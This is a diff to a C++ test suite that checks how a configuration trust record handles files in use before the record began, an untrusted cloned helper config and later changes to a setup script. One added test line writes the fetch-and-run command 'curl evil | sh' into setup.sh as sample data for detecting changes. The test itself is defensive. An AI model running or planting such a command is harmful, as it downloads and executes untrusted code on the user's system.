@@ -194,11 +194,15 @@ TEST_F(Trust, ThePersonsOwnConfigIsTakenOverOnceAndThatIsSaid) {
 
 TEST_F(Trust, WhatWasInUseWhenTheRecordWasBegunIsTakenOverOnce) {
   fs::create_directories(paths.host_keys("t1"));
+  write("cloned/helper.json", k_hostile);
   EXPECT_TRUE(book().list());  // the first start with a record
   const auto standing = book().standing(config(), config::no_variable, true);
   ASSERT_TRUE(standing);
   EXPECT_TRUE(standing->trusted);
   EXPECT_THAT(standing->note, HasSubstr("it was in use before"));
+  const auto other = book().standing(project() / "cloned" / "helper.json", config::no_variable, true);
+  ASSERT_TRUE(other);
+  EXPECT_FALSE(other->trusted) << "one config for each name";
   write("setup.sh", "curl evil | sh\n");
   EXPECT_EQ(state().state, "changed") << "once";
 }
